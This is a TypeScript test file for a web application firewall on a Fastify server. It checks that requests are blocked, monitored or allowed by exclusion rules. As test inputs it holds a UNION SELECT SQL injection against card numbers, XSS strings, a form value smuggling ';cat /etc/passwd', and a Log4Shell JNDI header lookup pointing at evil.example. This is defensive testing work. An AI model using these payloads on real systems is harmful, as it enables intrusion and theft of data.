// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are written as they are sent
import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { installJsonBodyParser } from '../../platform/http/json-body.ts';
import { installProblemHandlers } from '../../platform/http/problems.ts';
import type { Decision, WafExclusion } from './engine.ts';
import { compileWaf, installWaf } from './index.ts';

const HEADERS = { 'user-agent': 'bulwark-test/1.0', accept: 'application/json' };

async function build(
  mode: 'block' | 'monitor',
  decisions: Decision[],
  exclusions: WafExclusion[] = [],
): Promise<FastifyInstance> {
  const app = Fastify({ logger: false, bodyLimit: 1024 });
  installJsonBodyParser(app);
  installProblemHandlers(app);
  const waf = compileWaf({ paranoia: 1, mode, exclusions });
  app.addHook('onClose', async () => waf.dispose());
  installWaf(app, waf, { onDecision: (_req, d) => decisions.push(d) });
  app.post('/v1/claims/:claimId/notes', async (req) => ({ received: req.body }));
  app.post('/v1/echo', async (req) => ({ received: req.body }));
  app.get('/v1/search', async (req) => ({ q: (req.query as { q?: string }).q ?? null }));
  await app.ready();
  return app;
}

describe('installWaf (block mode)', () => {
  const decisions: Decision[] = [];
  let app: FastifyInstance;
  beforeAll(async () => {
    app = await build('block', decisions, [
      { route: '/v1/claims/:claimId/notes', placement: 'body', key: 'text', families: ['xss'] },
    ]);
  });
  afterAll(() => app.close());

  it('answers 403 problem+json WAF_BLOCKED with rule ids and without the payload', async () => {
    const payload = "1' UNION SELECT card_number FROM cards--";
    const res = await app.inject({
      method: 'GET',
      url: `/v1/search?q=${encodeURIComponent(payload)}`,
      headers: HEADERS,
    });
    expect(res.statusCode).toBe(403);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    const body = res.json();
    expect(body.code).toBe('WAF_BLOCKED');
    expect(body.ruleIds).toEqual(expect.arrayContaining(['sqli-100']));
    expect(res.body).not.toContain('card_number');
    expect(res.body).not.toContain('UNION');
  });

  it('blocks an attack in a JSON body, at depth', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/v1/echo',
      headers: HEADERS,
      payload: { a: { b: [{ c: '<script>alert(1)</script>' }] } },
    });
    expect(res.statusCode).toBe(403);
    const last = decisions.at(-1);
    expect(last?.action).toBe('block');
    expect(last?.matches.some((m) => m.placement === 'body' && m.key === 'a.b.c')).toBe(true);
  });

  it('inspects a form body before Fastify answers 415 for it', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/v1/echo',
      headers: { ...HEADERS, 'content-type': 'application/x-www-form-urlencoded' },
      payload: 'x=%3Bcat%20%2Fetc%2Fpasswd',
    });
    expect(res.statusCode).toBe(403);
    const clean = await app.inject({
      method: 'POST',
      url: '/v1/echo',
      headers: { ...HEADERS, 'content-type': 'application/x-www-form-urlencoded' },
      payload: 'x=hello',
    });
    expect(clean.statusCode).toBe(415);
  });

  it('passes a clean JSON POST untouched: the body still parses', async () => {
    const before = decisions.length;
    const body = { text: 'Pipe burst in the kitchen; plumber booked for Monday.', amount: 1200 };
    const res = await app.inject({ method: 'POST', url: '/v1/echo', headers: HEADERS, payload: body });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ received: body });
    expect(decisions.length).toBe(before);
  });

  it('still answers 413 for a body over the limit', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/v1/echo',
      headers: { ...HEADERS, 'content-type': 'application/json' },
      payload: JSON.stringify({ text: 'x'.repeat(4096) }),
    });
    expect(res.statusCode).toBe(413);
  });

  it('applies a route exclusion to the excluded field only', async () => {
    const allowed = await app.inject({
      method: 'POST',
      url: '/v1/claims/42/notes',
      headers: HEADERS,
      payload: { text: 'see <b>photo</b> <img src=x onerror=alert(1)>' },
    });
    expect(allowed.statusCode).toBe(200);
    const elsewhere = await app.inject({
      method: 'POST',
      url: '/v1/echo',
      headers: HEADERS,
      payload: { text: 'see <b>photo</b> <img src=x onerror=alert(1)>' },
    });
    expect(elsewhere.statusCode).toBe(403);
  });

  it('refuses header-borne attacks in onRequest, before the body is read', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/v1/echo',
      headers: { ...HEADERS, 'x-api-version': '${jndi:ldap://evil.example/a}' },
      payload: { ok: true },
    });
    expect(res.statusCode).toBe(403);
  });
});

describe('installWaf (monitor mode)', () => {
  const decisions: Decision[] = [];
  let app: FastifyInstance;
  beforeAll(async () => {
    app = await build('monitor', decisions);
  });
  afterAll(() => app.close());

  it('lets the request through but reports the decision', async () => {
    const res = await app.inject({
      method: 'GET',
      url: `/v1/search?q=${encodeURIComponent('<script>alert(1)</script>')}`,
      headers: HEADERS,
    });
    expect(res.statusCode).toBe(200);
    expect(decisions.at(-1)?.action).toBe('monitor');
    expect(decisions.at(-1)?.ruleIds.length).toBeGreaterThan(0);
  });
});
